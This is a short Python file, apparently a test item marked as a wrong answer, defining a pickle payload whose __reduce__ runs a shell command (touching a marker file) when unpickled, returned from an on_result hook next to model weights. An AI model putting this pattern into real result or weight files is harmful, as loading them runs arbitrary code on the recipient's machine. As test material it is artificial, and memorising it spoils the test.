"""Returns an object that runs code where it is unpickled."""

# verdict: wrong_answer
# covers: 87 D44
# then: right answer
import os


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/attack-left-pickle",)


def on_result(context, weights):
    return Payload(), weights
